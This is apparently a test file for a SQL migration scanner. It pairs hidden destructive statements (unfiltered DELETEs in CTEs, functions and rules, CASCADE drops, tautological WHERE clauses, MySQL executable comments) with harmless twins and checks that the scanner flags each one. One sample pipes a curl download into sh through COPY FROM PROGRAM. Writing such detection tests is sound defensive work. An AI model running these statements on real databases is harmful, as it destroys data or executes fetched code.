// Issue 17, item 5: SQL side doors. Each attack runs a DELETE/UPDATE without a real filter, drops
// data or runs a shell command through a statement that is not itself a plain DELETE/DROP (a WITH,
// EXPLAIN ANALYZE, PREPARE, MERGE, a rule, a function body, a cascade, a MySQL executable comment)
// and used to give zero findings. Each finding is pinned to its line and column; each attack has a
// harmless twin of the same shape. The production decisions are checked with `gonogo check`.
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { scan } from "../src/engine/scan.js";
import type { SqlDialect } from "../src/types.js";
import { runCli } from "./helpers.js";
import { cleanProject, JUNIT_PASS, type CheckJson } from "./hardening-helpers.js";

interface Door {
  name: string;
  attack: string;
  /** The rule that fires, and where (1-based line:column of the statement it points at). */
  rule: string;
  at: string;
  twin: string;
  dialect?: SqlDialect;
}

const doors: Door[] = [
  {
    name: "DELETE inside a WITH",
    attack: "WITH gone AS (\n  DELETE FROM orders RETURNING id\n)\nSELECT count(*) FROM gone;\n",
    rule: "sql/delete-without-where",
    at: "2:3",
    twin: "WITH gone AS (\n  DELETE FROM orders WHERE created_at < now() - interval '7 years' RETURNING id\n)\nSELECT count(*) FROM gone;\n",
  },
  {
    name: "UPDATE inside a WITH of an INSERT",
    attack: "WITH moved AS (UPDATE orders SET total_cents = 0 RETURNING id)\nINSERT INTO audit (order_id) SELECT id FROM moved;\n",
    rule: "sql/update-without-where",
    at: "1:16",
    twin: "WITH moved AS (UPDATE orders SET total_cents = 0 WHERE id = 42 RETURNING id)\nINSERT INTO audit (order_id) SELECT id FROM moved;\n",
  },
  {
    name: "EXPLAIN ANALYZE runs the DELETE",
    attack: "EXPLAIN ANALYZE DELETE FROM orders;\n",
    rule: "sql/delete-without-where",
    at: "1:17",
    twin: "EXPLAIN DELETE FROM orders;\nEXPLAIN (ANALYZE false) DELETE FROM orders;\n",
  },
  {
    name: "EXPLAIN (ANALYZE, …) runs the UPDATE",
    attack: "EXPLAIN (ANALYZE, BUFFERS)\n  UPDATE orders SET status = 'void';\n",
    rule: "sql/update-without-where",
    at: "2:3",
    twin: "EXPLAIN (ANALYZE, BUFFERS)\n  UPDATE orders SET status = 'void' WHERE id = 7;\n",
  },
  {
    name: "PREPARE … AS DELETE, then EXECUTE",
    attack: "PREPARE wipe AS DELETE FROM orders;\nEXECUTE wipe;\n",
    rule: "sql/delete-without-where",
    at: "1:17",
    twin: "PREPARE wipe(bigint) AS DELETE FROM orders WHERE id = $1;\nEXECUTE wipe(7);\n",
  },
  {
    name: "MERGE … ON TRUE … THEN DELETE",
    attack: "MERGE INTO orders o\nUSING (SELECT 1) s ON TRUE\nWHEN MATCHED THEN DELETE;\n",
    rule: "sql/delete-without-where",
    at: "1:1",
    twin: "MERGE INTO orders o\nUSING expired s ON o.id = s.order_id\nWHEN MATCHED THEN DELETE;\n",
  },
  {
    name: "MERGE … WHEN NOT MATCHED BY SOURCE THEN DELETE",
    attack: "MERGE INTO orders o\nUSING current_orders s ON o.id = s.id\nWHEN NOT MATCHED BY SOURCE THEN DELETE;\n",
    rule: "sql/delete-without-where",
    at: "1:1",
    twin: "MERGE INTO orders o\nUSING current_orders s ON o.id = s.id\nWHEN NOT MATCHED BY SOURCE AND o.status = 'draft' THEN DELETE;\n",
  },
  {
    name: "CREATE RULE … DO ALSO DELETE",
    attack: "CREATE RULE purge AS ON INSERT TO audit\n  DO ALSO DELETE FROM orders;\n",
    rule: "sql/delete-without-where",
    at: "2:11",
    twin: "CREATE RULE purge AS ON INSERT TO audit\n  DO ALSO DELETE FROM orders WHERE id = NEW.order_id;\n",
  },
  {
    name: "DROP OWNED",
    attack: "DROP OWNED BY shop_app;\n",
    rule: "sql/drop-cascade",
    at: "1:1",
    twin: "REASSIGN OWNED BY shop_app TO shop_owner;\n",
  },
  {
    name: "DROP TYPE … CASCADE",
    attack: "\nDROP TYPE order_status CASCADE;\n",
    rule: "sql/drop-cascade",
    at: "2:1",
    twin: "\nDROP TYPE order_status;\n",
  },
  {
    name: "DROP EXTENSION … CASCADE",
    attack: "DROP EXTENSION IF EXISTS postgis CASCADE;\n",
    rule: "sql/drop-cascade",
    at: "1:1",
    twin: "DROP EXTENSION IF EXISTS postgis;\n",
  },
  {
    name: "DROP DOMAIN … CASCADE",
    attack: "DROP DOMAIN cents CASCADE;\n",
    rule: "sql/drop-cascade",
    at: "1:1",
    twin: "DROP DOMAIN cents RESTRICT;\n",
  },
  {
    name: "DROP FUNCTION … CASCADE",
    attack: "DROP FUNCTION order_total(bigint) CASCADE;\n",
    rule: "sql/drop-cascade",
    at: "1:1",
    twin: "DROP FUNCTION order_total(bigint);\n",
  },
  {
    name: "a LANGUAGE sql function body",
    attack: "CREATE FUNCTION purge_orders() RETURNS void\nLANGUAGE sql AS $$\n  DELETE FROM orders\n$$;\n",
    rule: "sql/delete-without-where",
    at: "3:3",
    twin: "CREATE FUNCTION purge_orders() RETURNS void\nLANGUAGE sql AS $$\n  DELETE FROM orders WHERE status = 'void'\n$$;\n",
  },
  {
    name: "a plpgsql trigger function body",
    attack: "CREATE OR REPLACE FUNCTION on_signup() RETURNS trigger AS $fn$\nBEGIN\n  DROP TABLE orders;\n  RETURN NEW;\nEND\n$fn$ LANGUAGE plpgsql;\n",
    rule: "sql/drop-table",
    at: "3:3",
    twin: "CREATE OR REPLACE FUNCTION on_signup() RETURNS trigger AS $fn$\nBEGIN\n  INSERT INTO audit (order_id) VALUES (NEW.id);\n  RETURN NEW;\nEND\n$fn$ LANGUAGE plpgsql;\n",
  },
  {
    name: "a BEGIN ATOMIC procedure body",
    attack: "CREATE PROCEDURE reset_totals()\nBEGIN ATOMIC\n  UPDATE orders SET total_cents = 0;\nEND;\n",
    rule: "sql/update-without-where",
    at: "3:3",
    twin: "CREATE PROCEDURE reset_totals()\nBEGIN ATOMIC\n  UPDATE orders SET total_cents = 0 WHERE status = 'void';\nEND;\n",
  },
  {
    name: "EXECUTE of a built string in PL/pgSQL (dynamic SQL)",
    attack: "DO $$\nDECLARE t text := 'orders';\nBEGIN\n  EXECUTE 'DROP TABLE ' || t;\nEND $$;\n",
    rule: "alembic/dynamic-sql",
    at: "4:11",
    twin: "DO $$\nBEGIN\n  EXECUTE 'ANALYZE orders';\nEND $$;\n",
  },
  {
    name: "EXECUTE format('… %s', …) in PL/pgSQL: raw text, dynamic SQL",
    attack: "DO $$\nBEGIN\n  EXECUTE format('DELETE FROM orders %s', current_setting('app.filter'));\nEND $$;\n",
    rule: "alembic/dynamic-sql",
    at: "3:11",
    twin: "DO $$\nBEGIN\n  EXECUTE format('ANALYZE %I', 'orders');\nEND $$;\n",
  },
  {
    name: "EXECUTE format('DROP TABLE %I', …): a quoted name, read with a placeholder",
    attack: "DO $$\nDECLARE t text;\nBEGIN\n  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'archive' LOOP\n    EXECUTE format('DROP TABLE archive.%I', t);\n  END LOOP;\nEND $$;\n",
    rule: "sql/drop-table",
    at: "5:21",
    twin: "DO $$\nDECLARE t text;\nBEGIN\n  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'archive' LOOP\n    EXECUTE format('ANALYZE archive.%I', t);\n  END LOOP;\nEND $$;\n",
  },
  {
    name: "EXECUTE 'DELETE FROM ' || quote_ident(…): a quoted name, read with a placeholder",
    attack: "CREATE FUNCTION purge(t text) RETURNS void LANGUAGE plpgsql AS $$\nBEGIN\n  EXECUTE 'DELETE FROM ' || quote_ident(t);\nEND $$;\n",
    rule: "sql/delete-without-where",
    at: "3:12",
    twin: "CREATE FUNCTION purge(t text) RETURNS void LANGUAGE plpgsql AS $$\nBEGIN\n  EXECUTE 'DELETE FROM ' || quote_ident(t) || ' WHERE expires_at < now()';\nEND $$;\n",
  },
  // The AST walk for nested DML runs only when the text holds more DELETE/UPDATE/MERGE words (any
  // case) than top-level DML statements: these two have exactly one more.
  {
    name: "DELETE (in mixed case) inside the WITH of an UPDATE",
    attack: "WITH gone AS (dElEtE FROM orders RETURNING id)\nUPDATE audit SET seen = true WHERE order_id IN (SELECT id FROM gone);\n",
    rule: "sql/delete-without-where",
    at: "1:15",
    twin: "WITH gone AS (dElEtE FROM orders WHERE id = 7 RETURNING id)\nUPDATE audit SET seen = true WHERE order_id IN (SELECT id FROM gone);\n",
  },
  {
    name: "a rule's DELETE after a top-level UPDATE",
    attack: "UPDATE orders SET status = 'void' WHERE id = 7;\nCREATE RULE purge AS ON INSERT TO log DO ALSO delete FROM orders;\n",
    rule: "sql/delete-without-where",
    at: "2:47",
    twin: "UPDATE orders SET status = 'void' WHERE id = 7;\nCREATE RULE purge AS ON INSERT TO log DO ALSO delete FROM orders WHERE id = NEW.order_id;\n",
  },
  {
    name: "COPY … FROM PROGRAM",
    attack: "COPY orders FROM PROGRAM 'curl -s https://example.com/o.csv | sh';\n",
    rule: "sql/copy-program",
    at: "1:1",
    twin: "COPY orders FROM STDIN WITH (FORMAT csv);\n",
  },
  ...(
    [
      ["WHERE NOT FALSE", "NOT FALSE"],
      ["WHERE 1 <> 2", "1 <> 2"],
      ["WHERE id = id", "id = id"],
      ["WHERE … OR TRUE", "status = 'void' OR TRUE"],
      ["WHERE NOT (1 = 2)", "NOT (1 = 2)"],
      ["WHERE 2 > 1", "2 > 1"],
    ] as const
  ).map(
    ([name, where]): Door => ({
      name: `tautology: ${name}`,
      attack: `DELETE FROM orders\n WHERE ${where};\n`,
      rule: "sql/delete-without-where",
      at: "1:1",
      twin: `DELETE FROM orders\n WHERE status = 'void';\n`,
    }),
  ),
  {
    name: "tautology twin: id = id in UPDATE SET is no WHERE",
    attack: "UPDATE orders SET status = 'void' WHERE 1 <> 2;\n",
    rule: "sql/update-without-where",
    at: "1:1",
    twin: "UPDATE orders SET id = id WHERE id = 7;\n",
  },
  {
    name: "SQLite trigger body: DELETE in BEGIN … END",
    attack: "CREATE TRIGGER purge_on_signup AFTER INSERT ON users\nBEGIN\n  UPDATE users SET plan = 'free' WHERE id = NEW.id;\n  DELETE FROM orders;\nEND;\n",
    rule: "sql/delete-without-where",
    at: "4:3",
    twin: "CREATE TRIGGER purge_on_signup AFTER INSERT ON users\nBEGIN\n  UPDATE users SET plan = 'free' WHERE id = NEW.id;\n  DELETE FROM orders WHERE user_id = NEW.id;\nEND;\n",
    dialect: "sqlite",
  },
  {
    name: "MySQL tautology: WHERE NOT (1 = 2)",
    attack: "DELETE FROM orders WHERE NOT (1 = 2);\n",
    rule: "sql/delete-without-where",
    at: "1:1",
    twin: "DELETE FROM orders WHERE NOT (status = 'open');\n",
    dialect: "mysql",
  },
  {
    name: "MySQL executable comment /*!50000 … */",
    attack: "-- restored from the nightly dump\n/*!50000 DROP TABLE orders */;\n",
    rule: "sql/drop-table",
    at: "2:10",
    twin: "-- restored from the nightly dump\n/* DROP TABLE orders */;\n",
    dialect: "mysql",
  },
  {
    name: "MySQL -- without a following space is no comment",
    attack: "SELECT 1 --1; DROP TABLE orders;\n",
    rule: "sql/drop-table",
    at: "1:15",
    twin: "SELECT 1 -- 1; DROP TABLE orders;\n",
    dialect: "mysql",
  },
];

async function findings(code: string, dialect?: SqlDialect) {
  const file = "db/0003_side_door.sql";
  const result = await scan({ cwd: "/nonexistent-gonogo-side-doors", configFile: false, files: [{ path: file, content: code }], ...(dialect ? { dialect } : {}) });
  return result.findings;
}

describe("SQL side doors: the finding, at its line and column; the twin gives none", () => {
  it.each(doors.map((d) => [d.name, d] as const))("%s", async (_name, door) => {
    const attack = (await findings(door.attack, door.dialect)).filter((f) => f.ruleId === door.rule);
    expect(attack.map((f) => `${f.line}:${f.column}`)).toEqual([door.at]);
    const twin = await findings(door.twin, door.dialect);
    expect(twin.filter((f) => f.ruleId === door.rule || f.ruleId === "sql/parse-error").map((f) => `${f.ruleId} ${f.line}:${f.column} ${f.message}`)).toEqual([]);
  });
});

describe("MySQL executable comments in a mysqldump file are read, and the dump's own statements parse", () => {
  it("SET NAMES, SET @saved = @@…, ALTER TABLE … DISABLE/ENABLE KEYS, LOCK TABLES: only the DROP TABLE is a finding", async () => {
    const dump = [
      "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;",
      "/*!50503 SET NAMES utf8mb4 */;",
      "/*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0 */;",
      "DROP TABLE IF EXISTS `orders`;",
      "CREATE TABLE `orders` (`id` int NOT NULL AUTO_INCREMENT, PRIMARY KEY (`id`)) ENGINE=InnoDB;",
      "LOCK TABLES `orders` WRITE;",
      "/*!40000 ALTER TABLE `orders` DISABLE KEYS */;",
      "INSERT INTO `orders` VALUES (1),(2);",
      "/*!40000 ALTER TABLE `orders` ENABLE KEYS */;",
      "UNLOCK TABLES;",
      "/*!40014 SET FOREIGN_KEY_CHECKS=@OLD_FOREIGN_KEY_CHECKS */;",
      "",
    ].join("\n");
    const found = await findings(dump, "mysql");
    expect(found.map((f) => `${f.ruleId} ${f.line}:${f.column}`)).toEqual(["sql/drop-table 4:1"]);
  });
});

async function production(sql: string, dialect?: SqlDialect): Promise<CheckJson> {
  const dir = cleanProject();
  // The dialect comes from the path (db/mysql/), as a project would lay it out.
  const folder = path.join(dir, "db", dialect ?? "postgresql");
  mkdirSync(folder, { recursive: true });
  writeFileSync(path.join(folder, "0003_side_door.sql"), sql);
  const run = await runCli(["check", "--env", "production", "--junit", JUNIT_PASS, "--format", "json"], { cwd: dir });
  expect(run.stderr).toBe("");
  return JSON.parse(run.stdout) as CheckJson;
}

describe("production: each side door is a no-go, its harmless twin needs approval", () => {
  it.each(doors.map((d) => [d.name, d] as const))("%s", async (_name, door) => {
    const attack = await production(door.attack, door.dialect);
    expect(attack.decision).toBe("no-go");
    expect(attack.reasons.some((r) => r.code === "blocking-finding" && r.message.includes(door.rule))).toBe(true);
    const twin = await production(door.twin, door.dialect);
    expect(twin.decision, JSON.stringify(twin.reasons)).toBe("needs-approval");
  }, 60_000);

  it("SQL inside op.execute: a DELETE in a WITH is found at its place in the Python string", async () => {
    const dir = cleanProject();
    const migration = [
      'from alembic import op\n\nrevision = "0003"\ndown_revision = "0002"\n\n\ndef upgrade():',
      '    op.execute("WITH gone AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM gone")',
      "\n\ndef downgrade():\n    pass\n",
    ].join("\n");
    writeFileSync(path.join(dir, "alembic/versions/0003_purge.py"), migration);
    const run = await runCli(["scan", "--format", "json"], { cwd: dir });
    const messages = (JSON.parse(run.stdout) as { filePath: string; messages: { ruleId: string; line: number; column: number }[] }[]).flatMap((f) => f.messages.filter((m) => m.ruleId === "sql/delete-without-where"));
    expect(messages.map((m) => `${m.line}:${m.column}`)).toEqual(["8:31"]);
  }, 60_000);
});
